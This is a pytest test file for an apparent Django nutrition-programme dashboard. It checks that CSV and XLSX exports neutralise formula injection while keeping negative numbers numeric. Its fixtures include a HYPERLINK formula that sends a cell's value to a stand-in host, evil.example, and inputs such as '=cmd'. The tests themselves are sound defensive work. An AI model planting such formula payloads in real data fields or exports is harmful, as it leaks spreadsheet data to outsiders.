"""Export cells cannot carry a spreadsheet formula: text typed in the field or imported reaches the ministry inert.

OWASP's CSV-injection rule: a text cell starting with =, +, -, @, a tab or a carriage return is prefixed with a
single quote, in CSV and in XLSX alike; numbers stay numbers (a negative z-score is still a number).
"""
import csv
import io
from datetime import date
from decimal import Decimal

import pytest
import time_machine
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from anganwadi.equipment.services import device_record
from anganwadi.models import Location
from growth.services import measurement_record
from growth.tasks import run_nightly
from poshan.dashboards.exports.writer import csv_chunks, neutralise, write_csv, write_xlsx
from poshan.dashboards.rollups.refresh import refresh_month
from tests.factories import make_household, make_person

EVIL_MAKE = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
HEADER = ("state_code,state_name,district_code,district_name,project_code,project_name,sector_code,sector_name,"
          "awc_code,awc_name\n")


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel("2026-11-27 04:00:00+00:00", tick=False):
        yield


def _post(client, kind, file_format, **fields):
    payload = {"kind": kind, "file_format": file_format, "month_from": "2026-11", "month_to": "2026-11", **fields}
    response = client.post(reverse("dashboards:export"), payload)
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content)


def _csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _xlsx_cells(body: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(body)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.fixture
def evil_phone(world, users):
    device_record(actor=users.aww, awc=world.awc1, kind="smartphone", condition="working", make=EVIL_MAKE,
                  imei="490154203237518", issued_to=users.aww)


@pytest.fixture
def evil_place(tmp_path, users):
    path = tmp_path / "locations.csv"
    path.write_text(HEADER + "29,Karnataka,291,Mysuru,29101,Hunsur,2910101,Sector K,291010101,=cmd\n")
    call_command("import_locations", str(path))
    return Location.objects.get(code=291010101)


def test_device_make_typed_by_a_worker_is_inert_in_the_csv_export(world, users, evil_phone, login):
    rows = _csv_rows(_post(login(users.dpo), "equipment", "csv"))
    make = rows[0].index("phone_make")
    awc1_row = next(r for r in rows if r[0] == str(world.awc1.code))
    assert awc1_row[make] == "'" + EVIL_MAKE


def test_device_make_typed_by_a_worker_is_text_not_a_formula_in_the_xlsx_export(world, users, evil_phone, login):
    cells = _xlsx_cells(_post(login(users.dpo), "equipment", "xlsx"))
    make = [c.value for c in cells[0]].index("phone_make")
    cell = next(r for r in cells if r[0].value == world.awc1.code)[make]
    assert cell.value == "'" + EVIL_MAKE
    assert cell.data_type == "s"


@pytest.mark.parametrize("kind", ["activity", "equipment", "summary"])
def test_imported_location_name_is_inert_in_every_export_that_names_places(world, users, evil_place, login, kind):
    refresh_month(date(2026, 11, 1), trigger="test")
    client = login(users.ministry)
    csv_rows = _csv_rows(_post(client, kind, "csv"))
    name = csv_rows[0].index("awc_name")
    assert [r[name] for r in csv_rows if r[name].endswith("=cmd")] == ["'=cmd"]
    cells = _xlsx_cells(_post(client, kind, "xlsx"))
    found = [c for row in cells for c in row if isinstance(c.value, str) and c.value.endswith("=cmd")]
    assert [(c.value, c.data_type) for c in found] == [("'=cmd", "s")]
    assert not [c for row in cells for c in row if c.data_type == "f"]


def test_negative_z_scores_stay_numbers_in_both_formats(world, users, login):
    child = make_person(make_household(world.awc1), name="Small", sex="M", dob=date(2024, 5, 5), enrol_as="child")
    measurement_record(actor=users.aww, child=child, date=date(2026, 11, 20), weight_kg=Decimal("8.0"),
                       lenhei_cm=Decimal("82.0"), measure="l")
    run_nightly("2026-11-27")
    client = login(users.dpo)
    rows = _csv_rows(_post(client, "children", "csv"))
    waz = rows[1][rows[0].index("waz")]
    assert waz.startswith("-") and float(waz) < 0  # not quoted: a number for the spreadsheet
    cells = _xlsx_cells(_post(client, "children", "xlsx"))
    cell = cells[1][[c.value for c in cells[0]].index("waz")]
    assert cell.data_type == "n" and cell.value < 0


DANGEROUS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "-abc", "+91 98123"]
HARMLESS = ["", "Radha", "a=b", "1-2", " =1"]
NUMBERS = [-5, -1.25, Decimal("-3.50"), 0, 7, Decimal("2.00")]


def test_the_one_rule_prefixes_dangerous_text_and_keeps_numbers():
    assert [neutralise(v) for v in DANGEROUS] == ["'" + v for v in DANGEROUS]
    assert [neutralise(v) for v in HARMLESS] == HARMLESS
    assert [neutralise(v) for v in NUMBERS] == NUMBERS
    assert neutralise(None) is None and neutralise(date(2026, 1, 1)) == date(2026, 1, 1)


@pytest.mark.parametrize("value", ["-1.25", "-7", "+3", "-0.50"])
def test_a_number_given_as_text_stays_a_number(value):
    assert neutralise(value) == value


def test_every_writer_applies_the_rule_to_headers_and_cells():
    row = ("=cmd", -5, Decimal("-1.50"), "@x", "ok")
    streamed = _csv_rows(b"".join(csv_chunks(["=h", "b", "c", "d", "e"], [row])))
    assert streamed == [["'=h", "b", "c", "d", "e"], ["'=cmd", "-5", "-1.50", "'@x", "ok"]]
    target = io.BytesIO()
    write_csv(target, ["=h", "b", "c", "d", "e"], [row])
    assert _csv_rows(target.getvalue()) == streamed
    target = io.BytesIO()
    write_xlsx(target, ["=h", "b", "c", "d", "e"], [row])
    cells = _xlsx_cells(target.getvalue())
    assert [(c.value, c.data_type) for c in cells[1]] == [("'=cmd", "s"), (-5, "n"), (-1.5, "n"), ("'@x", "s"),
                                                          ("ok", "s")]
    assert cells[0][0].value == "'=h"


def test_a_control_character_typed_in_a_make_does_not_break_the_xlsx_export(world, users, login):
    device_record(actor=users.aww, awc=world.awc1, kind="smartphone", condition="working", make="Nokia\x01 105",
                  imei="490154203237518", issued_to=users.aww)
    cells = _xlsx_cells(_post(login(users.dpo), "equipment", "xlsx"))
    make = [c.value for c in cells[0]].index("phone_make")
    assert next(r for r in cells if r[0].value == world.awc1.code)[make].value == "Nokia 105"
